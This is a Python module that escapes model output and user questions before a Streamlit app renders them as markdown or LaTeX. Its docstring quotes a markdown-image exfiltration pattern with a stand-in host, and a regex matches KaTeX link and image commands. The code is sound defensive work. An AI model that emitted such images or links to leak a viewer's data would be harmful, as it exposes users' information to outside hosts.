"""Model-shaped text made safe for Streamlit markdown, which would otherwise obey it.

A model (or whoever wrote a question, a `?q=` link included) must not make the viewer's browser
fetch `![](http://host/?data=...)`, show a link that leaks data, or break out of its block.
Prose goes to `st.text` and code and outputs to `st.code`, which are no markdown at all; labels
and alerts, which are, get `escape`; only an extracted answer is typeset, by `boxed`.
"""

from __future__ import annotations

import re

PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")  # every ASCII punctuation char CommonMark escapes
# where GFM would see an autolink (`http://`, `mailto:`, `www.`, `a@b.c`), even in escaped text
AUTOLINK = re.compile(r"(?<=[:@])|(?i:(?<=www))(?=\.)")
WORD_JOINER = "\u2060"  # invisible, and no link starts across it
# KaTeX commands that fetch or link (Streamlit leaves KaTeX's `trust` off, so they fail anyway)
TRUSTED_TEX = re.compile(r"\\(?:href|url|includegraphics|html[A-Za-z]*)(?![A-Za-z])")


def escape(text: str) -> str:
    """`text` as markdown that shows it literally: no image, link, emphasis, math, directive
    (`:red[...]`, `:material/...:`) or HTML, and its line breaks kept. For labels and alerts,
    which are always markdown; elsewhere `st.text` shows such text as it is."""
    text = AUTOLINK.sub(WORD_JOINER, text)
    return "  \n".join(PUNCTUATION.sub(r"\\\1", line) for line in text.splitlines())


def boxed(answer: str) -> str | None:
    """`\\boxed{answer}` for `st.latex`, or None when it cannot be typeset safely.

    `st.latex` sends `$$\\n...\\n$$` as markdown, so a `$` or a line break in the answer could
    close the math block and the rest would render as markdown: those answers, and ones that
    ask KaTeX for links or images, are shown as code instead."""
    if "$" in answer or TRUSTED_TEX.search(answer):
        return None
    return "\\boxed{" + " ".join(answer.split()) + "}"
